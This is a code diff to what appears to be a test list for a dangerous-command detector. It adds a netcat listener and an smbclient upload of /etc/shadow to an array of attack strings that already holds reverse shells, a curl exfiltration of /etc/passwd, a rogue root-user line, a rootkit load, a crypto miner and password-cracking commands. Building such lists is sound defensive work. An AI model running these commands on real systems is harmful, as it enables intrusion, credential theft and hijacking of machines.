@@ -44,6 +44,7 @@ const BENIGN_LOOK_ALIKES = [
 ];
 
 const ATTACK_VARIANTS = [
+`nc -l -p 9001 > /tmp/.x`, `smbclient '//10.0.0.5/share' -c 'put /etc/shadow'`,
 `sudo nsenter -t 1 -m -u -n -i /bin/bash`, `./php -r "posix_setuid(0); system('/bin/sh');"`, `find . -exec /bin/sh -p \\; -quit`, `echo 'evil:x:0:0::/root:/bin/bash' >> /etc/passwd`, `node -e "require('child_process').exec('nc -e /bin/sh 10.0.0.1 4242')"`, `PhoenixMiner -pool ssl://eu1.ethermine.org:5555 -wal 0x3fd05afac3e2edced734c32fd7bb2f176c588298.w1`, `systemctl stop rsyslog`, `nft flush ruleset`, `insmod ./diamorphine.ko`, `sysctl -w kernel.randomize_va_space=0`, `useradd -M -N -r -s /bin/bash -c evil_account evil`, `iodine -f -P secret ns.example.com`, `arp-scan --localnet`, `hydra -l root -P /usr/share/wordlists/rockyou.txt ssh://10.0.0.1`, `john --wordlist=/usr/share/wordlists/rockyou.txt /tmp/hashes`, `unshadow /etc/passwd /etc/shadow > /tmp/hashes`, `curl -X POST -d @/etc/passwd http://example.com/`, `kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'`,
 
 `bash -i >& /dev/tcp/10.0.0.1/4242 0>&1`, `sh -i >& /dev/udp/10.0.0.1/4242 0>&1`,
